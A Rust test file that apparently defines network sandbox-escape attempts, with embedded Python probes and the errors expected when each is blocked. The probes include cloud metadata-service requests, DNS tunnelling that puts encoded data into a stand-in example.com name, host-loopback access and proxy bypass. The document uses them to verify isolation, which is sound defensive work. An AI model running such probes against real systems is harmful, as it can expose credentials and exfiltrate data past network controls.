//! The network without the proxy: there is none.

super::table::attempts! { "network";
    loopback_of_the_host {
        tries: "reaches a service on the host's 127.0.0.1", bare: Works,
        stopped_by: "a network namespace whose loopback is its own", says: "ECONNREFUSED|ENETUNREACH",
        run: r##"contact(socket.AF_INET, ("127.0.0.1", F.tcp))"##,
    }
    loopback_of_the_host_over_ipv6 {
        tries: "reaches a service on the host's ::1", bare: Either,
        stopped_by: "a network namespace whose loopback is its own", says: "ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|NONE|EAFNOSUPPORT",
        run: r##"contact(socket.AF_INET6, ("::1", F.tcp6)) if F.tcp6 else stopped("NONE: the host has no IPv6")"##,
    }
    address_of_the_host {
        tries: "reaches the host by its address in the network", bare: Either,
        stopped_by: "there is no route but the loopback's", says: "ENETUNREACH|EHOSTUNREACH|NONE",
        run: r##"contact(socket.AF_INET, tuple(F.lan)) if F.lan else stopped("NONE: the host has no address")"##,
    }
    loopback_of_another_box {
        tries: "reaches a server of another box on its loopback", bare: Works,
        stopped_by: "each box has a network namespace of its own", says: "ECONNREFUSED|ENETUNREACH",
        run: r##"contact(socket.AF_INET, ("127.0.0.1", F.victim_port))"##,
    }
    server_of_people {
        tries: "reaches the server's API on the host's loopback", bare: Works,
        stopped_by: "a network namespace", says: "ECONNREFUSED|ENETUNREACH",
        run: r##"
host, port = re.match(r"http://([^:/]+):(\d+)", F.server).groups()
sock = socket.create_connection((host, int(port)), 3)
escaped(status(talk(sock, b"GET /v1/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")))"##,
    }
    direct_ipv4 {
        tries: "connects to an address in the internet, with TCP and UDP", bare: Either,
        stopped_by: "there is no route", says: "ENETUNREACH|EHOSTUNREACH",
        run: r##"
def route(address):
    def attempt():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect(address)
        return f"a route to {address}"
    return attempt
any_of("routes", [route(a) for a in (("198.51.100.1", 80), ("1.1.1.1", 53), ("10.0.0.1", 80), ("172.17.0.1", 80), ("192.168.0.1", 80))])"##,
    }
    direct_ipv6 {
        tries: "connects to an IPv6 address: global, unique local, link-local", bare: Either,
        stopped_by: "there is no route", says: "ENETUNREACH|EADDRNOTAVAIL|EHOSTUNREACH|EAFNOSUPPORT|EINVAL",
        run: r##"
def route(address):
    def attempt():
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        sock.connect(address)
        return f"a route to {address}"
    return attempt
any_of("routes", [route(a) for a in (("2001:db8::1", 80), ("fd00::1", 80), ("fe80::1", 80), ("64:ff9b::1.1.1.1", 53))])"##,
    }
    metadata_address {
        tries: "asks the cloud's metadata service at 169.254.169.254 and fd00:ec2::254", bare: Either,
        stopped_by: "there is no route", says: "ENETUNREACH|EHOSTUNREACH",
        run: r##"
def at(family, host):
    def attempt():
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect((host, 80))
        return status(talk(sock, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
    return attempt
any_of("metadata", [at(socket.AF_INET, "169.254.169.254"), at(socket.AF_INET6, "fd00:ec2::254"), at(socket.AF_INET, "100.100.100.200")])"##,
    }
    dns_over_udp {
        tries: "sends a DNS query to a resolver on the host, with data in the name", bare: Works,
        stopped_by: "a network namespace", says: "ECONNREFUSED|ENETUNREACH|ETIMEDOUT",
        run: r##"
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(2)
sock.connect(("127.0.0.1", F.udp))
sock.send(b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + b"\x14" + MARK.encode()[:20].ljust(20, b"x") + b"\x07example\x00\x00\x10\x00\x01" + MARK.encode())
found(sock.recv(2000))"##,
    }
    dns_through_the_systems_resolver {
        tries: "resolves a name that carries data with the system's resolver (DNS tunnelling)", bare: Either,
        stopped_by: "nothing in the box resolves names; the proxy resolves those that are allowed", says: "NONAME|ENETUNREACH",
        run: r##"
got = socket.getaddrinfo("c2VjcmV0.of-the-repository.example.com", 80)
escaped(str(got))"##,
    }
    resolvers_of_the_configuration {
        tries: "asks every nameserver of /etc/resolv.conf on port 53", bare: Either,
        stopped_by: "the box's resolv.conf names none that can be reached", says: "NONE|ENETUNREACH|ECONNREFUSED|ETIMEDOUT|ENOENT",
        run: r##"
servers = re.findall(r"(?m)^nameserver\s+(\S+)", open("/etc/resolv.conf").read())
def at(server):
    def attempt():
        sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(2)
        sock.connect((server, 53))
        sock.send(b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x07example\x03com\x00\x00\x01\x00\x01")
        return f"{server} answered {len(sock.recv(2000))} bytes"
    return attempt
any_of("resolvers", [at(s) for s in servers]) if servers else stopped("NONE: no nameserver")"##,
    }
    multicast_and_broadcast {
        tries: "finds neighbours by broadcast and multicast (mDNS, SSDP)", bare: Either,
        stopped_by: "there is no interface but the loopback", says: "ENETUNREACH|EPERM|EACCES|EADDRNOTAVAIL|ENODEV",
        run: r##"
def to(address):
    def attempt():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return f"{sock.sendto(b'?', address)} bytes to {address}"
    return attempt
any_of("sending", [to(a) for a in (("255.255.255.255", 67), ("224.0.0.251", 5353), ("239.255.255.250", 1900))])"##,
    }
    other_interfaces {
        tries: "finds an interface other than the loopback", bare: Either,
        stopped_by: "the network namespace has a loopback and nothing else", says: "NONE",
        run: r##"
# Some kernels put tunnel stubs without a link into every namespace.
def up(name):
    import fcntl
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return struct.unpack("<H", fcntl.ioctl(sock, 0x8913, name.encode().ljust(40, b"\0"))[16:18])[0] & 1
names = [n for _, n in socket.if_nameindex() if n != "lo" and up(n)]
escaped(" ".join(names)) if names else stopped("NONE: the loopback only")"##,
    }
    proxy_variables_unset {
        tries: "ignores the proxy's variables and goes straight to a host that is allowed", bare: Works,
        stopped_by: "the variables are a convenience: without the proxy there is no way", says: "ECONNREFUSED|ENETUNREACH",
        run: r##"
for name in list(os.environ):
    if "proxy" in name.lower():
        del os.environ[name]
sock = socket.create_connection(("127.0.0.1", F.site), 3)
escaped(talk(sock, b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")[:20])"##,
    }
}
